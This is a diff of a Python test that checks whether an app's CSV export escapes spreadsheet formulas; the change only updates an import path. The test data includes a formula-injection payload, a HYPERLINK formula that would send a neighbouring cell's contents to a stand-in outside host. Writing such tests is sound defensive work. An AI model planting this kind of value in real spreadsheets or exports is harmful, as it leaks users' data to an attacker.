@@ -596,10 +596,10 @@ def test_csv_cells_never_start_a_formula_and_read_back_the_same(tmp_path_factory
 def test_the_apps_csv_download_uses_the_same_rule():
     import pandas as pd
 
-    from captioner.app import views
+    from captioner.app.views.tables import csv_bytes
 
     table = pd.DataFrame({"image": ['=HYPERLINK("https://x.example/"&B2, "see")', "ok.png"], "score": [-1.5, 2.0]})
-    rows = list(csv.reader(io.StringIO(views.csv_bytes(table).decode())))
+    rows = list(csv.reader(io.StringIO(csv_bytes(table).decode())))
     assert rows[1] == ['\'=HYPERLINK("https://x.example/"&B2, "see")', "-1.5"] and rows[2] == ["ok.png", "2.0"]
 
 
